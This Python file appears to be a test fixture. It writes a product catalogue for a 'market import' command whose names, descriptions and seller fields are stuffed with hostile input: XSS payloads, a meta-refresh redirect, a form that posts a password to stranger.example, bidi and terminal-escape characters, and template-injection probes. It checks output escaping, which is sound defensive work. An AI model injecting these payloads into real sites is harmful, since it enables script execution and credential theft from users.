"""A market whose sellers want to run something on the pages that show it."""
import json

# What each does if it comes into a page as it stands; `stranger` is what the check looks for.
RUN = "window.stranger=1;alert(1)"
TEXTS = [
    f"<script>{RUN}</script>",
    f"\"><img src=x onerror={RUN}>",
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"</title></textarea></style><script>{RUN}</script><!--",
    f"--><svg/onload={RUN}>",
    f"javascript:{RUN}",
    f"]]><iframe srcdoc='<script>parent.{RUN}</script>'>",
    "&lt;script&gt;&#x3C;script&#x3E;&quot;&amp",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//stranger.example/x>",
    "<base href='//stranger.example/'><meta http-equiv=refresh content='0;url=//stranger.example'>",
    "</form><form action='https://stranger.example/'><input name=password><button>",
    "<template><marquee><object data=x><embed src=x><math><a xlink:href=javascript:1>",
    "turned \u202eexe.tac\u202c \u2066isolated\u2067 \u200f\u200e\u061c marks",
    "bell\u0007 escape\u001b[31m\u001b]8;;https://stranger.example\u0007 c1\u009b31m delete\u007f",
    "line\u2028separator\u2029paragraph\ttab\u0085next \ufeff\u200b\u200d\ufffc",
    "W" * 900,
    "가" * 300,
    "Ｗ" * 100 + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    "e" + "\u0301\u0302\u0303" * 90 + " " + "Z" + "\u0489" * 200,
    "\u0e47" * 100 + "ﷺ" * 60,
    "{{7*7}} ${7*7} <%= 7*7 %> %3Cscript%3E \\u003cscript\\u003e `",
]

# What the market itself is called.
NAME = "\"><script>window.stranger=1</script>\u202e&amp;"


def write(path, pictures):
    """Writes the market as lines that `market import` reads; all products have the given pictures."""
    with open(path, "w", encoding="utf-8") as file:
        for index, text in enumerate(TEXTS):
            product = {
                "name": text[:1000],
                "description": "\n".join([text, *TEXTS]),
                "currency": "KRW" if index % 2 else "USD",
                "price": (999_999_999_999, 1, 0)[index % 3],
                "discount": (499_999_999_999, 0, 0)[index % 3],
                "stock": (0, 999_999_999, 1)[index % 3],
                "seller": {"id": 1 + index, "name": text[:100], "contact": text[:200]},
                "pictures": pictures[:index % 4],
            }
            file.write(json.dumps(product) + "\n")
